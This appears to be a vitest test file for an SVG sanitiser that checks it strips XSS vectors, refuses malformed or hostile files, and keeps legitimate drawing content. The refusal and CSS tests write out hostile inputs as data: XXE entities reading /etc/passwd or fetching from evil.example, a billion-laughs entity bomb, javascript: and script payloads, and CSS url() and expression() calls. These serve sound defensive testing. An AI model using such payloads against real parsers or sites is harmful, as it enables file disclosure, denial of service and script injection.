import { describe, expect, it } from 'vitest';
import { HttpError } from '../http/errors';
import { isSafeHref, sanitizeSvg } from './svg';
import { isSafeCss, safeStyleAttribute } from './svgCss';
import { ESCAPED_SCRIPT_TEXT, SVG_DANGER, XSS_VECTORS } from './svgXssVectors';

const clean = (svg: string) => sanitizeSvg(Buffer.from(svg, 'utf8')).toString('utf8');

function rejected(svg: string | Buffer): HttpError {
  try {
    sanitizeSvg(typeof svg === 'string' ? Buffer.from(svg, 'utf8') : svg);
  } catch (error) {
    expect(error).toBeInstanceOf(HttpError);
    return error as HttpError;
  }
  throw new Error('expected the SVG to be refused');
}

describe('sanitizeSvg: XSS vectors', () => {
  for (const [name, svg] of Object.entries(XSS_VECTORS)) {
    it(`removes ${name}`, () => {
      const out = clean(svg);
      expect(out.startsWith('<svg xmlns="http://www.w3.org/2000/svg"')).toBe(true);
      expect(out.replace(ESCAPED_SCRIPT_TEXT, '')).not.toMatch(SVG_DANGER);
      // What comes out is itself a clean SVG: sanitising it again changes nothing.
      expect(clean(out)).toBe(out);
    });
  }

  it('keeps the drawing around what it removes', () => {
    expect(clean(XSS_VECTORS['javascript link (xlink)']!)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>');
    expect(clean(XSS_VECTORS['event handlers on shapes']!)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>');
    expect(clean(XSS_VECTORS['style attribute javascript url']!)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" style="fill:red"/></svg>');
    expect(clean(XSS_VECTORS['style @import']!)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>');
    expect(clean(XSS_VECTORS['text that reads like markup']!)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>');
  });
});

describe('sanitizeSvg: what is refused with 422 Invalid SVG file', () => {
  const refusals: Record<string, string | Buffer> = {
    'unquoted handler (not XML)': '<svg onload=alert(1)>',
    'HTML rather than XML': '<html><body><svg><script>alert(1)</script></svg>',
    'unclosed element': '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
    'a root that is not svg': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    'svg in another namespace': '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
    'XXE external entity': '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
    'XXE parameter entity': '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
    'billion laughs':
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
    'empty file': '',
    'a PNG': Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    'plain text': 'just some words',
  };
  for (const [name, svg] of Object.entries(refusals)) {
    it(`refuses ${name}`, () => {
      const error = rejected(svg);
      expect(error.statusCode).toBe(422);
      expect(error.message).toBe('Validation failed');
      expect(String(error.details)).toMatch(/^Invalid SVG file/);
    });
  }

  it('refuses a file nested deeper than any drawing needs', () => {
    const deep = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(500)}${'</g>'.repeat(500)}</svg>`;
    expect(rejected(deep).details).toBe('The SVG file is too complex');
  });
});

describe('sanitizeSvg: real drawings keep what they draw', () => {
  it('keeps shapes, gradients, clips, references inside the file, text and styles', () => {
    const svg = `<?xml version="1.0" encoding="UTF-8"?>
<!-- Generator: an editor -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 100 100" width="100" height="100" sodipodi:docname="x.svg">
  <defs>
    <linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#263147"/><stop offset="1" stop-color="#4ac6e3"/></linearGradient>
    <clipPath id="c"><circle cx="50" cy="50" r="40"/></clipPath>
    <path id="p" d="M0 0h10v10z"/>
  </defs>
  <style>.a{fill:url(#g)} @media print{.a{opacity:1}}</style>
  <g clip-path="url(#c)" class="a"><rect width="100" height="100" fill="url('#g')" style="stroke: #000; stroke-width: 2"/></g>
  <use xlink:href="#p" x="5"/><use href="#p" y="5"/>
  <text x="10" y="90" font-family="Open Sans">Tom &amp; Jerry</text>
  <image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>
</svg>`;
    const out = clean(svg);
    expect(out).toContain('<linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#263147"/>');
    expect(out).toContain('<g clip-path="url(#c)" class="a"><rect width="100" height="100" fill="url(\'#g\')" style="stroke: #000;stroke-width: 2"/></g>');
    expect(out).toContain('<use xlink:href="#p" x="5"/><use href="#p" y="5"/>');
    expect(out).toContain('<style>.a{fill:url(#g)} @media print{.a{opacity:1}}</style>');
    expect(out).toContain('<text x="10" y="90" font-family="Open Sans">Tom &amp; Jerry</text>');
    expect(out).toContain('href="data:image/png;base64,iVBORw0KGgo="');
    expect(out.startsWith('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100">')).toBe(true);
    expect(out).not.toMatch(/sodipodi|Generator|<\?xml/);
  });

  it('reads an Illustrator file: DOCTYPE with plain entities, then drops the DOCTYPE', () => {
    const svg = `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
  <!ENTITY ns_svg "http://www.w3.org/2000/svg">
  <!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
]>
<svg version="1.1" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" viewBox="0 0 10 10"><path d="M0 0h10v10H0z" fill="#F00"/></svg>`;
    expect(clean(svg)).toBe('<svg xmlns="http://www.w3.org/2000/svg" version="1.1" viewBox="0 0 10 10" width="10" height="10"><path d="M0 0h10v10H0z" fill="#F00"/></svg>');
  });

  it('takes an SVG written without a namespace and gives it one', () => {
    expect(clean('<svg width="1" height="1"><rect width="1" height="1"/></svg>')).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1"/></svg>',
    );
  });

  it('gives an SVG with only a viewBox its size, so it draws at its own proportions', () => {
    expect(clean('<svg viewBox="0 0 200 80"/>')).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 80" width="200" height="80"/>');
    expect(clean('<svg viewBox="0,0,24.5,12"/>')).toContain('width="24.5" height="12"');
    // A size of its own, or a box that is not one, stays as it is.
    expect(clean('<svg viewBox="0 0 200 80" width="100%"/>')).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 80" width="100%"/>');
    expect(clean('<svg viewBox="0 0 0 80"/>')).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 80"/>');
  });

  it('reads UTF-16 and a UTF-8 byte order mark', () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>é</text></svg>';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]);
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(svg, 'utf8')]);
    expect(sanitizeSvg(utf16).toString('utf8')).toBe(svg);
    expect(sanitizeSvg(bom).toString('utf8')).toBe(svg);
  });
});

describe('the pieces', () => {
  it('isSafeHref: only references inside the file and PNG/JPEG data', () => {
    for (const ok of ['#a', ' #icon-1 ', 'data:image/png;base64,AAAA', 'data:image/jpeg;base64,AA=='] as const) expect(isSafeHref(ok)).toBe(true);
    for (const bad of ['https://x/y.svg#a', '//x/y', 'javascript:alert(1)', 'data:image/svg+xml;base64,AA', 'data:text/html,x', '#', 'x.svg#a', '#a"b'] as const)
      expect(isSafeHref(bad)).toBe(false);
  });

  it('isSafeCss: styling stays, anything that fetches or runs does not', () => {
    expect(isSafeCss('.a{fill:#fff;stroke:url(#g)} @media (min-width:1px){.b{opacity:.5}} /* note */')).toBe(true);
    for (const bad of [
      '@import "x.css";',
      '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
      '.a{background:url(https://evil.example)}',
      '.a{background:url( "//evil.example" )}',
      '.a{background:image-set("x.png" 1x)}',
      '.a{background:-webkit-image-set("x.png" 1x)}',
      '.a{behavior:url(#x.htc)} .b{-moz-binding:url(#x)}',
      '.a{width:expression(alert(1))}',
      '.a{b\\61ckground:red}',
      '.a{fill:red} /* unterminated',
      '</style><script>alert(1)</script>',
    ])
      expect(isSafeCss(bad), bad).toBe(false);
  });

  it('safeStyleAttribute keeps the safe declarations of a style attribute', () => {
    expect(safeStyleAttribute('fill:red; stroke : url(http://x) ;opacity:0.5;;junk')).toBe('fill:red;opacity:0.5');
    expect(safeStyleAttribute('background:url(javascript:alert(1))')).toBe('');
  });
});
